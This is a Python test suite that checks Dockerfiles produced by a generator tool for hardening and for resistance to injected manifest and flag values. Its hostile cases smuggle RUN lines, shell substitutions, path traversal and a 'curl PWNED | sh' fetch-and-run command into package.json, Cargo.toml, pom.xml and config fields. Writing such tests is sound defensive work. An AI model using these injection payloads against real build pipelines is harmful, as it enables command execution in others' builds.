#!/usr/bin/env python3
"""Structural checks of generated Dockerfiles with BuildKit's own parser (the `dockerfile`
package from PyPI wraps moby/buildkit's parser).

1. Hardening over the flag space: every fixture under every combination of vendor, runtime
   family, port and syntax line. Each run either refuses (exit 2 with a message, nothing on
   stdout) or gives a Dockerfile whose final stage runs as a numeric non-root USER, starts in
   exec form, copies only from earlier stages, and uses no ADD; and a .dockerignore that keeps
   .git, .env files and private keys out of the context.
2. Hostile manifests, shiplight.toml files and flag values: each is either refused naming the file (or flag), or
   gives exactly the instruction list of its benign twin, with the payload in no instruction.
   Where the hostile value only makes detection pass over it (an object name that is not an
   identifier is no app object), the Dockerfile must still hold the hardening of (1) and carry
   the payload in no instruction.

3. The repository boundary (boundary.py): paths, links, special files, settings, writes, what
   reaches a terminal, arguments, layers, pathological input and credentials, each case with
   its exact safe outcome.

4. The other generated documents parse as what they claim to be: every compose.yaml (each
   fixture with --compose) as YAML with the hardened service settings, and the monorepo
   fixture's docker-bake.hcl as HCL with one target per service; for each fixture of several
   applications (NAME.all), `init --all` writes a hardened Dockerfile per application and a
   bake file naming each, built from the workspace root.

Usage: python3 tests/structure/check.py [path/to/shiplight]
"""

import itertools
import json
import pathlib
import re
import subprocess
import sys
import tempfile

import dockerfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
import boundary  # noqa: E402
from projects import split_outputs, write  # noqa: E402

ROOT = pathlib.Path(__file__).resolve().parents[2]
BIN = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "target" / "debug" / "shiplight"
FIXTURES = ROOT / "tests" / "fixtures"
ENV = {"SHIPLIGHT_CARGO_METADATA": "never", "PATH": "/usr/bin:/bin"}
PAYLOAD = "PWNED"
IGNORED = [".git", "**/.env", "**/.env.*", "**/*.pem", "**/*.key", "**/id_rsa*", "**/id_ed25519*"]

failures = []
quiet = False


def fail(message):
    failures.append(message)
    if not quiet:
        print(f"FAIL {message}", flush=True)


def shiplight(*args):
    return subprocess.run([str(BIN), *map(str, args)], capture_output=True, text=True, env=ENV,
                          timeout=30)


def stages(commands):
    result = []
    for command in commands:
        if command.cmd == "FROM":
            result.append([])
        if result:
            result[-1].append(command)
    return result


def check_hardening(label, files):
    text = files.get("Dockerfile")
    ignore = files.get(".dockerignore")
    if text is None or ignore is None:
        return fail(f"{label}: expected Dockerfile and .dockerignore, got {sorted(files)}")
    try:
        commands = dockerfile.parse_string(text)
    except dockerfile.GoParseError as err:
        return fail(f"{label}: BuildKit cannot parse the Dockerfile: {err}")
    parts = stages(commands)
    if len(parts) < 2:
        return fail(f"{label}: expected a build stage and a runtime stage, got {len(parts)}")
    final = parts[-1]
    users = [c.value[0] for c in final if c.cmd == "USER"]
    if not users or not re.fullmatch(r"[1-9][0-9]*:[1-9][0-9]*", users[-1]):
        fail(f"{label}: final stage USER is {users}, not a numeric non-root user:group")
    starts = [c for c in final if c.cmd in ("ENTRYPOINT", "CMD")]
    if not starts or not all(c.json for c in starts):
        fail(f"{label}: final stage start is not exec form: {[c.original for c in starts]}")
    for command in final:
        if command.cmd == "COPY" and not any(f.startswith("--from=") for f in command.flags):
            fail(f"{label}: final stage copies from the build context: {command.original}")
        if command.cmd == "RUN":
            fail(f"{label}: final stage runs a command (no shell there): {command.original}")
    check_labels(label, final)
    for command in commands:
        if command.cmd == "ADD":
            fail(f"{label}: ADD is used: {command.original}")
    lines = {line.strip() for line in ignore.splitlines()}
    missing = [entry for entry in IGNORED if entry not in lines]
    if missing:
        fail(f"{label}: .dockerignore lacks {missing}")


OCI = "org.opencontainers.image."
# Each label's value: a build arg shiplight declares, or a literal of the safe alphabet.
LABEL_VALUE = re.compile(r'"(\$\{OCI_(SOURCE|REVISION|CREATED|VERSION)\}|[A-Za-z0-9][A-Za-z0-9._+() :-]*)"')


def check_labels(label, final):
    """The final stage's OCI labels: title, version, source, revision and created present, every
    value double-quoted and either one of shiplight's build args or a literal of the safe
    alphabet."""
    pairs = {}
    for command in final:
        if command.cmd == "LABEL":
            values = command.value
            pairs.update(zip(values[0::2], values[1::2]))
    missing = [key for key in ("title", "version", "source", "revision", "created")
               if OCI + key not in pairs]
    if missing:
        fail(f"{label}: final stage lacks the OCI labels {missing}")
    for key, value in pairs.items():
        if not key.startswith(OCI) or not LABEL_VALUE.fullmatch(value):
            fail(f"{label}: label {key}={value} is not a quoted safe value")


def flag_space():
    count = 0
    fixtures = sorted(p for p in FIXTURES.iterdir() if p.is_dir())
    for fixture in fixtures:
        args_file = fixture.with_suffix(".args")
        base = args_file.read_text().split() if args_file.exists() else []
        for vendor, runtime, port, syntax in itertools.product(
                ["distroless", "chainguard"], [None, "static", "base", "cc", "language"],
                [None, "8443"], [True, False]):
            args = ["init", fixture, "--stdout", *base, "--vendor", vendor]
            if runtime:
                args += ["--runtime", runtime]
            if port:
                args += ["--port", port]
            if not syntax:
                args.append("--no-syntax")
            label = " ".join(map(str, args[1:])).replace(str(ROOT) + "/", "")
            result = shiplight(*args)
            count += 1
            if result.returncode == 2:
                if result.stdout or not result.stderr.startswith("error: "):
                    fail(f"{label}: a refusal must print an error and no files")
                continue
            if result.returncode != 0:
                fail(f"{label}: exit {result.returncode}: {result.stderr.strip()}")
                continue
            files = split_outputs(result.stdout)
            check_hardening(label, files)
            if port and f"EXPOSE {port}" not in files.get("Dockerfile", ""):
                fail(f"{label}: --port {port} is not exposed")
    return count


def instruction_list(text):
    return [(c.cmd, len(c.value)) for c in dockerfile.parse_string(text)]


PJ = {"name": "svc", "version": "1.0.0", "scripts": {"start": "node server.js"},
      "dependencies": {"express": "5.1.0"}}
NODE = {"package.json": PJ, "package-lock.json": {}, "server.js": "require('express')().listen(3000)\n"}
CARGO = "[package]\nname = \"svc\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"
RUST = {"Cargo.toml": CARGO, "src/main.rs": "fn main() {}\n"}
GO = {"go.mod": "module example.com/svc\n\ngo 1.26\n", "main.go": "package main\n\nfunc main() {}\n"}
PY = {"requirements.txt": "flask==3.1.2\ngunicorn==23.0.0\n",
      "app.py": "from flask import Flask\n\napp = Flask(__name__)\n"}
POM = """<?xml version="1.0"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <groupId>com.example</groupId>
  <artifactId>svc</artifactId>
  <version>1.0.0</version>
  <build>
    <finalName>FINAL</finalName>
    <plugins>
      <plugin>
        <artifactId>maven-jar-plugin</artifactId>
        <configuration><archive><manifest><mainClass>MAIN</mainClass></manifest></archive></configuration>
      </plugin>
    </plugins>
  </build>
</project>
"""
JAVA = {"pom.xml": POM.replace("FINAL", "svc").replace("MAIN", "svc.Main"),
        "src/main/java/svc/Main.java": "package svc;\npublic class Main { public static void main(String[] a) {} }\n"}
COMPOSER = {"require": {"php": ">=8.2"}, "bin": ["bin/tool"]}
PHP = {"composer.json": COMPOSER, "composer.lock": {"packages": []}, "bin/tool": "<?php echo 1;\n"}

# (name, benign project, hostile project, extra flags, file or flag a refusal must name);
# names ending in "(passed over)" may give another instruction list.
HOSTILE = [
    ("package.json main with a newline and a RUN line",
     dict(NODE, **{"package.json": dict(PJ, main="dist/index.js", scripts={"build": "tsc"})}),
     dict(NODE, **{"package.json": dict(PJ, main=f"dist/index.js\nRUN {PAYLOAD}.js",
                                        scripts={"build": "tsc"})}), [], "package.json"),
    ("package.json start script with &&",
     NODE, dict(NODE, **{"package.json": dict(PJ, scripts={"start": f"node server.js && curl {PAYLOAD} | sh"})}),
     [], "package.json"),
    ("package.json start script with a quoted JSON breaker",
     NODE, dict(NODE, **{"package.json": dict(PJ, scripts={"start": f'node server.js"] RUN ["{PAYLOAD}'})}),
     [], "package.json"),
    ("package.json node option with a newline",
     NODE, dict(NODE, **{"package.json": dict(PJ, scripts={"start": f"node --x=\n{PAYLOAD} server.js"})}),
     [], "package.json"),
    ("package.json name with quotes and a newline",
     NODE, dict(NODE, **{"package.json": dict(PJ, name=f'svc"\nRUN {PAYLOAD}')}), [], "package.json"),
    ("packageManager version with a newline",
     dict(NODE, **{"package.json": dict(PJ, packageManager="pnpm@9.12.0"), "pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}),
     dict(NODE, **{"package.json": dict(PJ, packageManager=f"pnpm@9.12.0\nRUN {PAYLOAD}"),
                   "pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}), [], "package.json"),
    ("engines.node with a RUN line",
     NODE, dict(NODE, **{"package.json": dict(PJ, engines={"node": f"22\nRUN {PAYLOAD}"})}), [], "package.json"),
    ("Cargo bin name with quotes",
     RUST, dict(RUST, **{"Cargo.toml": CARGO + f'\n[[bin]]\nname = "svc\\" {PAYLOAD}"\npath = "src/main.rs"\n'}),
     [], "Cargo.toml"),
    ("Cargo package name with a newline",
     RUST, dict(RUST, **{"Cargo.toml": CARGO.replace('"svc"', f'"svc\\nRUN {PAYLOAD}"')}), [], "Cargo.toml"),
    ("go.mod module path with a newline",
     GO, dict(GO, **{"go.mod": f'module "example.com/svc\\nRUN {PAYLOAD}"\n\ngo 1.26\n'}), [], "go.mod"),
    ("go.mod go directive with a shell substitution",
     GO, dict(GO, **{"go.mod": f"module example.com/svc\n\ngo 1.26$({PAYLOAD})\n"}), [], "go.mod"),
    ("pom finalName with a shell substitution",
     JAVA, dict(JAVA, **{"pom.xml": POM.replace("FINAL", f"svc$(touch {PAYLOAD})").replace("MAIN", "svc.Main")}),
     [], "pom.xml"),
    ("pom finalName from a property with a newline",
     JAVA, dict(JAVA, **{"pom.xml": POM.replace("FINAL", "${name}").replace("MAIN", "svc.Main").replace(
         "<build>", f"<properties><name>svc&#10;RUN {PAYLOAD}</name></properties>\n  <build>")}),
     [], "pom.xml"),
    ("pom mainClass with quotes",
     JAVA, dict(JAVA, **{"pom.xml": POM.replace("FINAL", "svc").replace("MAIN", f'svc.Main"] RUN ["{PAYLOAD}')}),
     [], "pom.xml"),
    ("pom module leaving the project",
     JAVA, dict(JAVA, **{"pom.xml": POM.replace("FINAL", "svc").replace("MAIN", "svc.Main").replace(
         "<build>", f"<modules><module>../../{PAYLOAD}</module></modules>\n  <build>")}),
     [], "pom.xml"),
    ("composer bin with a newline and a RUN line",
     PHP, dict(PHP, **{"composer.json": dict(COMPOSER, bin=[f"bin/tool\nRUN {PAYLOAD}"])}), [], "composer.json"),
    ("composer bin with quotes",
     PHP, dict(PHP, **{"composer.json": dict(COMPOSER, bin=[f'bin/tool"] RUN ["{PAYLOAD}'])}), [], "composer.json"),
    ("composer ext-* requirement with a newline",
     PHP, dict(PHP, **{"composer.json": dict(COMPOSER, require={"php": ">=8.2", f"ext-x\nRUN {PAYLOAD}": "*"})}),
     [], "composer.json"),
    ("--profile with a newline",
     JAVA, JAVA, ["--profile", f"fat\nRUN {PAYLOAD}"], "profile"),
    ("requirements include leaving the project",
     PY, dict(PY, **{"requirements.txt": f"-r ../../{PAYLOAD}.txt\nflask\n"}), [], "requirements.txt"),
    ("Flask app object name with a shell substitution (passed over)",
     PY, dict(PY, **{"app.py": f"from flask import Flask\n\n$({PAYLOAD}) = Flask(__name__)\n"}), [], "app.py"),
    ("Django settings module with a RUN line",
     dict(PY, **{"manage.py": 'os.environ.setdefault("DJANGO_SETTINGS_MODULE", "site.settings")\n',
                 "site/wsgi.py": "application = None\n"}),
     dict(PY, **{"manage.py": f'os.environ.setdefault("DJANGO_SETTINGS_MODULE", "site;RUN {PAYLOAD}.settings")\n',
                 "site/wsgi.py": "application = None\n"}), [], "manage.py"),
    ("pyproject name with a newline",
     PY, dict(PY, **{"pyproject.toml": f'[project]\nname = "svc\\nRUN {PAYLOAD}"\nversion = "1"\n'}), [], "pyproject.toml"),
    ("package.json license with a quote and a RUN line (passed over)",
     dict(NODE, **{"package.json": dict(PJ, license="MIT")}),
     dict(NODE, **{"package.json": dict(PJ, license=f'MIT" \\\nRUN {PAYLOAD}')}), [], "package.json"),
    ("package.json version with a shell substitution (passed over)",
     NODE, dict(NODE, **{"package.json": dict(PJ, version=f"1.0.0$({PAYLOAD})")}), [], "package.json"),
    ("Cargo license with a newline (passed over)",
     RUST, dict(RUST, **{"Cargo.toml": CARGO + f'license = "MIT\\nRUN {PAYLOAD}"\n'}), [], "Cargo.toml"),
    ("pyproject license with quotes (passed over)",
     PY, dict(PY, **{"pyproject.toml": f'[project]\nname = "svc"\nversion = "1"\nlicense = "MIT\\" {PAYLOAD}"\n'}),
     [], "pyproject.toml"),
    ("composer licence list with a newline (passed over)",
     PHP, dict(PHP, **{"composer.json": dict(COMPOSER, license=["MIT", f"GPL\nRUN {PAYLOAD}"])}), [],
     "composer.json"),
    ("--lang-version with a newline", GO, GO, ["--lang-version", f"1.26\nRUN {PAYLOAD}"], "lang-version"),
    ("--package with quotes",
     {"package.json": {"name": "root", "workspaces": ["apps/*"]}, "package-lock.json": {},
      "apps/api/package.json": dict(PJ, name="api"), "apps/api/server.js": "x\n"},
     {"package.json": {"name": "root", "workspaces": ["apps/*"]}, "package-lock.json": {},
      "apps/api/package.json": dict(PJ, name="api"), "apps/api/server.js": "x\n"},
     ["--package", f'api" {PAYLOAD}'], "--package"),
    ("--go-main with a newline", GO, GO, ["--go-main", f".\nRUN {PAYLOAD}"], "--go-main"),
]

# shiplight.toml is read from the repository too, and a digests file may come with it.
HOSTILE += [
    ("shiplight.toml go-main with a newline and a RUN line",
     GO, dict(GO, **{"shiplight.toml": f'go-main = ".\\nRUN {PAYLOAD}"\n'}), [], "shiplight.toml"),
    ("shiplight.toml lang-version with a shell substitution",
     GO, dict(GO, **{"shiplight.toml": f'lang-version = "1.26$({PAYLOAD})"\n'}), [], "shiplight.toml"),
    ("shiplight.toml package with quotes",
     NODE, dict(NODE, **{"shiplight.toml": f'package = "svc\\" {PAYLOAD}"\n'}), [], "shiplight.toml"),
    ("shiplight.toml mirror adding an instruction",
     GO, dict(GO, **{"shiplight.toml": f'[mirrors]\n"docker.io" = "x AS build\\nRUN {PAYLOAD}"\n'}), [],
     "shiplight.toml"),
    ("digests file with a payload after the digest",
     GO, dict(GO, **{"shiplight.toml": 'digests = "pins"\n',
                     "pins": f"golang:1.26-trixie@sha256:{'0' * 64} {PAYLOAD}\n"}), [], "pins:1"),
]


def hostile_cases():
    for name, benign, hostile, flags, named in HOSTILE:
        with tempfile.TemporaryDirectory() as tmp:
            good, bad = pathlib.Path(tmp, "good"), pathlib.Path(tmp, "bad")
            write(good, benign)
            write(bad, hostile)
            expected = shiplight("init", good, "--stdout", "--only", "dockerfile")
            if expected.returncode != 0:
                fail(f"{name}: the benign twin fails: {expected.stderr.strip()}")
                continue
            result = shiplight("init", bad, "--stdout", "--only", "dockerfile", *flags)
            passed_over = name.endswith("(passed over)")
            if result.returncode != 0:
                if result.returncode != 2 or result.stdout or named not in result.stderr:
                    fail(f"{name}: refusal must exit 2 naming {named}: exit {result.returncode} "
                         f"{result.stderr.strip()!r}")
                else:
                    print(f"ok   {name}: refused: {result.stderr.strip().splitlines()[0]}")
                continue
            got = instruction_list(result.stdout)
            want = instruction_list(expected.stdout)
            tainted = [c.original for c in dockerfile.parse_string(result.stdout)
                       if PAYLOAD in c.original]
            if passed_over:
                full = shiplight("init", bad, "--stdout", *flags)
                before = len(failures)
                check_hardening(name, split_outputs(full.stdout))
                if tainted:
                    fail(f"{name}: payload reached instructions: {tainted}")
                elif len(failures) == before:
                    print(f"ok   {name}: passed over; hardened, payload in no instruction")
            elif got != want:
                fail(f"{name}: instruction list differs from the benign twin:\n  {got}\n  {want}")
            elif tainted:
                fail(f"{name}: payload reached instructions: {tainted}")
            else:
                print(f"ok   {name}: same {len(got)} instructions as the benign twin, payload in none")


def documents():
    import shutil

    import hcl2
    import yaml

    count = 0
    for fixture in sorted(p for p in FIXTURES.iterdir() if p.is_dir()):
        args_file = fixture.with_suffix(".args")
        args = args_file.read_text().split() if args_file.exists() else []
        result = shiplight("init", fixture, "--stdout", "--compose", *args)
        if result.returncode != 0:
            continue
        compose = yaml.safe_load(split_outputs(result.stdout)["compose.yaml"])
        for name, service in compose["services"].items():
            if (service.get("user") != "65532:65532" or service.get("read_only") is not True
                    or service.get("tmpfs") != ["/tmp"]):
                fail(f"{fixture.name}: compose service {name} is not hardened: {service}")
        count += 1
    with tempfile.TemporaryDirectory() as tmp:
        root = pathlib.Path(tmp, "shop")
        shutil.copytree(ROOT / "tests" / "monorepo" / "shop", root)
        result = shiplight("init", root, "--all")
        if result.returncode != 0:
            fail(f"monorepo: init --all failed: {result.stderr.strip()}")
            return count
        bake = hcl2.loads((root / "docker-bake.hcl").read_text())
        targets = {name.strip('"'): body for block in bake["target"] for name, body in block.items()}
        for name, body in targets.items():
            context = root / body["context"].strip('"')
            if not (context / "Dockerfile").is_file():
                fail(f"monorepo: bake target {name} has no Dockerfile in {context}")
        if sorted(targets) != ["api", "web", "worker"]:
            fail(f"monorepo: bake targets {sorted(targets)}")
        for name, body in targets.items():
            check_release(f"monorepo {name}", body, None)
    workspaces = 0
    for fixture in sorted(p for p in FIXTURES.iterdir() if p.is_dir() and p.with_suffix(".all").exists()):
        with tempfile.TemporaryDirectory() as tmp:
            root = pathlib.Path(tmp, fixture.name)
            shutil.copytree(fixture, root)
            result = shiplight("init", root, "--all")
            if result.returncode != 0:
                fail(f"{fixture.name}: init --all failed: {result.stderr.strip()}")
                continue
            bake = hcl2.loads((root / "docker-bake.hcl").read_text())
            targets = {name.strip('"'): body for block in bake["target"] for name, body in block.items()}
            written = sorted(str(p.relative_to(root)) for p in root.rglob("Dockerfile"))
            named = sorted(body["dockerfile"].strip('"') for body in targets.values())
            if len(written) < 2 or named != written:
                fail(f"{fixture.name}: bake targets name {named}, init --all wrote {written}")
            for path in written:
                check_hardening(f"{fixture.name} {path}", {
                    "Dockerfile": (root / path).read_text(),
                    ".dockerignore": (root / (path + ".dockerignore")).read_text()})
            for name, body in targets.items():
                if body["context"].strip('"') != ".":
                    fail(f"{fixture.name}: bake target {name} is not built from the workspace root")
                check_release(f"{fixture.name} {name}", body, None)
            workspaces += 1
    releases = 0
    for fixture in sorted(p for p in FIXTURES.iterdir() if p.is_dir()):
        args_file = fixture.with_suffix(".args")
        args = args_file.read_text().split() if args_file.exists() else []
        result = shiplight("init", fixture, "--stdout", *args, *([] if "--bake" in args else ["--bake"]))
        if result.returncode != 0:
            continue
        plan = shiplight("explain", fixture, "--json", *args)
        multi = json.loads(plan.stdout)["platforms"] if plan.returncode == 0 else []
        outputs = split_outputs(result.stdout)
        bake = hcl2.loads(outputs["docker-bake.hcl"])
        for block in bake["target"]:
            for name, body in block.items():
                check_release(f"{fixture.name} bake {name}", body, multi)
        check_cross(f"{fixture.name} Dockerfile", dockerfile.parse_string(outputs["Dockerfile"]), multi)
        releases += 1
    print(f"ok   documents: {count} compose files parse as hardened YAML; the monorepo bake file, "
          f"{workspaces} bake files of workspaces with several applications (one target per "
          f"Dockerfile, each hardened) and {releases} release bake files parse as HCL with "
          "attestations, platforms and cache settings")
    return count


COMPILERS = re.compile(r"\b(go build|cargo build)\b")


def check_cross(label, commands, platforms):
    """A stage that compiles (go build, cargo build) on $BUILDPLATFORM must compile for the
    target, naming TARGETARCH, and only a plan with several platforms may have one; a plan with
    several platforms compiles only on $BUILDPLATFORM (no emulated build)."""
    stage = None
    stages = []
    for command in commands:
        if command.cmd == "FROM":
            stage = dict(cross="--platform=$BUILDPLATFORM" in command.flags, arch=False, compiles=False)
            stages.append(stage)
        elif stage is not None and command.cmd == "ARG" and command.value[0].split("=")[0] == "TARGETARCH":
            stage["arch"] = True
        elif stage is not None and command.cmd == "RUN" and COMPILERS.search(" ".join(command.value)):
            stage["compiles"] = True
    for n, stage in enumerate(stages):
        if not stage["compiles"]:
            continue
        if stage["cross"] and not stage["arch"]:
            fail(f"{label}: stage {n} compiles on $BUILDPLATFORM without TARGETARCH")
        if stage["cross"] and not platforms:
            fail(f"{label}: stage {n} cross-compiles, but the plan names no platforms")
        if platforms and not stage["cross"]:
            fail(f"{label}: the plan names {platforms}, but stage {n} compiles under emulation")


TAG_CHOICE = re.compile(r'^\$\{REGISTRY == "" \? "([^"]*)" : "([^"]*)"\}$')


def bake_tags(body, registry, tag):
    """The tags of a bake target with the REGISTRY and TAG variables set, as bake evaluates its
    one conditional form (`REGISTRY == "" ? LOCAL : PUSHED`); None for any other form."""
    tags = []
    for expression in body.get("tags", []):
        match = TAG_CHOICE.match(expression)
        if not match:
            return None
        chosen = match.group(1) if registry == "" else match.group(2)
        tags.append(chosen.replace("${REGISTRY}", registry).replace("${TAG}", tag))
    return tags


def check_release(label, body, platforms):
    """A bake target for release: SBOM and max-mode provenance attestations, cache import and
    export from CI's variables, the plan's platforms (when `platforms` is given), and tags that
    name the image locally without REGISTRY and under REGISTRY when it is set."""
    attest = [a.strip('"') for a in body.get("attest", [])]
    if sorted(attest) != ["type=provenance,mode=max", "type=sbom"]:
        fail(f"{label}: attest is {attest}")
    for key, variable in (("cache-from", "CACHE_FROM"), ("cache-to", "CACHE_TO")):
        if variable not in str(body.get(key, "")):
            fail(f"{label}: {key} does not come from {variable}: {body.get(key)}")
    got = [p.strip('"') for p in body.get("platforms", [])]
    if platforms is not None and got != platforms:
        fail(f"{label}: platforms {got}, the plan says {platforms}")
    local = bake_tags(body, "", "1.2.3")
    pushed = bake_tags(body, "ghcr.io/acme", "1.2.3")
    if not local or not pushed or any("/" in t or not t.endswith(":1.2.3") for t in local) \
            or pushed != [f"ghcr.io/acme/{t}" for t in local]:
        fail(f"{label}: tags {body.get('tags')} give {local} without REGISTRY and {pushed} with "
             f"REGISTRY=ghcr.io/acme")


def planted(run):
    """How many failures `run` records, quietly, leaving none behind."""
    global quiet
    quiet = True
    run()
    caught = len(failures)
    failures.clear()
    quiet = False
    return caught


def self_test():
    """The checks must catch what they look for: a Dockerfile breaking each rule fails each."""
    bad = ("FROM golang AS build\nRUN go build\nFROM scratch\nADD https://x/y /y\nCOPY . /app\n"
           "RUN true\nUSER nonroot\nENTRYPOINT /app/y\n")
    labels = dockerfile.parse_string(
        'FROM x\nLABEL org.opencontainers.image.title="a" org.opencontainers.image.version=1 '
        'org.opencontainers.image.source="$(x)"\n')
    cross = [(dockerfile.parse_string("FROM --platform=$BUILDPLATFORM rust AS build\nRUN cargo build\n"), []),
             (dockerfile.parse_string("FROM golang AS build\nARG TARGETARCH\nRUN go build\n"),
              ["linux/amd64", "linux/arm64"])]
    release = {"attest": ['"type=sbom"', '"type=provenance,mode=max"'],
               "cache-from": "${CACHE_FROM}", "cache-to": "${CACHE_TO}"}
    checks = [
        ("the checks", 7, lambda: check_hardening("self-test", {"Dockerfile": bad,
                                                               ".dockerignore": "Dockerfile\n"})),
        ("the label check", 3, lambda: check_labels("self-test", labels)),
        ("the cross-compilation check", 3,
         lambda: [check_cross("self-test", commands, platforms) for commands, platforms in cross]),
        ("the bake tag check", 2,
         lambda: [check_release("self-test", dict(release, tags=tags), None) for tags in (
             ['"api:${TAG}"'], ['${REGISTRY == "" ? "api:${TAG}" : "${REGISTRY}:${TAG}"}'],
             ['${REGISTRY == "" ? "api:${TAG}" : "${REGISTRY}/api:${TAG}"}'])]),
    ]
    for what, expected, run in checks:
        caught = planted(run)
        if caught != expected:
            print(f"FAIL self-test: {what} caught {caught} of {expected} planted faults")
            return False
    print("ok   self-test: 7 of 7 planted faults caught, 3 of 3 in labels, 3 of 3 in cross builds, "
          "2 of 2 in bake tags")
    return True


def main():
    if not self_test():
        return 1
    count = flag_space()
    print(f"flag space: {count} runs checked")
    hostile_cases()
    print(f"hostile inputs: {len(HOSTILE)} cases")
    count = boundary.run_all(BIN, fail, lambda message: print(f"ok   {message}", flush=True))
    print(f"repository boundary: {count} cases")
    documents()
    if failures:
        print(f"{len(failures)} failures")
        return 1
    print("structure: 0 failures")
    return 0


if __name__ == "__main__":
    sys.exit(main())
